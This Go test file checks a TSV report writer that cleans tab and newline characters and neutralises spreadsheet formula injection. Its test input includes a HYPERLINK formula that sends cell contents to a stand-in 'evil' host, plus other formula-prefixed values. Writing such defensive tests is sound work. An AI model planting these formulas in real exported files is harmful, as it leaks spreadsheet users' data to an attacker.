package report

import (
	"errors"
	"strings"
	"testing"

	"github.com/agentgate/agentgate/gate/agreement"
)

func TestDisagreementsTSV(t *testing.T) {
	var b strings.Builder
	err := DisagreementsTSV(&b, []agreement.Item{
		{QID: "q-1", Scholar: "VALID", Auditor: "VALID", Final: "VALID", Why: "auditor_ok"},
		{QID: "q\t2\nx", Scholar: "VALID", Auditor: "REJECT", Final: "REJECT", Why: "auditor_veto"},
		{QID: "q-3", Scholar: "REJECT", Auditor: "VALID", Final: "REJECT", Why: "incoherent\r\npair"},
	})
	if err != nil {
		t.Fatal(err)
	}
	want := "qid\tscholar\tauditor\tfinal\twhy\n" +
		"q 2 x\tVALID\tREJECT\tREJECT\tauditor_veto\n" +
		"q-3\tREJECT\tVALID\tREJECT\tincoherent  pair\n"
	if b.String() != want {
		t.Errorf("got:\n%q\nwant:\n%q", b.String(), want)
	}

	// Spreadsheet formulas from the inputs are neutralised (OWASP: a leading single quote).
	b.Reset()
	err = DisagreementsTSV(&b, []agreement.Item{
		{QID: "=HYPERLINK(\"http://evil/?\"&A1)", Scholar: "+1", Auditor: "-2", Final: "@SUM(A1)", Why: "\t=cmd"},
		{QID: "\r=1+1", Scholar: "a=b", Auditor: "'quoted", Final: "", Why: " =x"},
	})
	if err != nil {
		t.Fatal(err)
	}
	want = "qid\tscholar\tauditor\tfinal\twhy\n" +
		"'=HYPERLINK(\"http://evil/?\"&A1)\t'+1\t'-2\t'@SUM(A1)\t' =cmd\n" +
		"' =1+1\ta=b\t'quoted\t\t =x\n"
	if b.String() != want {
		t.Errorf("formulas: got:\n%q\nwant:\n%q", b.String(), want)
	}

	b.Reset()
	if err := DisagreementsTSV(&b, nil); err != nil || b.String() != "qid\tscholar\tauditor\tfinal\twhy\n" {
		t.Errorf("no items: %q, %v", b.String(), err)
	}
	if err := DisagreementsTSV(failWriter{}, nil); err == nil {
		t.Errorf("write error not returned")
	}
}

type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, errors.New("disk full") }
